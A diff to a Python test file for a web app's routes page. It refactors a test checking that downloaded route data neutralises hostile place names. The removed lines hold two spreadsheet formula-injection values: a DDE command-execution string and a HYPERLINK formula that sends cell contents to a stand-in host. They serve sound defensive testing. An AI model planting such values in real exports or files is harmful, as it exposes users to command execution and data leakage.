@@ -78,21 +78,20 @@ def _number(text: str) -> bool:
 # --------------------------------------------------------------------------- Routes page
 
 
-def _hostile_routes_page():
-    from tests.network_fixture import build_small, fixture_layers, with_changes
+def _routes_page():
     from webapp import routes
 
-    layers = with_changes(fixture_layers(), "places", {
-        "naryn": {"name_en": "=cmd|' /C calc'!A0"},
-        "bishkek": {"name_en": '=HYPERLINK("http://example.invalid/?d="&A1,"open")'},
-    })
-    G = build_small(layers)
-    routes.corridor_graph = lambda: G
     routes.render()
 
 
-def test_routes_legs_download_neutralises_place_names(media):
-    at = AppTest.from_function(_hostile_routes_page, default_timeout=TIMEOUT_S)
+def test_routes_legs_download_neutralises_place_names(media, monkeypatch):
+    from webapp import routes
+
+    layers = with_changes(fixture_layers(), "places", {
+        "naryn": {"name_en": CMD}, "bishkek": {"name_en": LINK}})
+    G = build_small(layers)
+    monkeypatch.setattr(routes, "corridor_graph", lambda: G)  # the page's graph, this test only
+    at = AppTest.from_function(_routes_page, default_timeout=TIMEOUT_S)
     at.query_params["origin"] = "bishkek"
     at.query_params["destination"] = "kashgar"
     at.query_params["by"] = "distance"
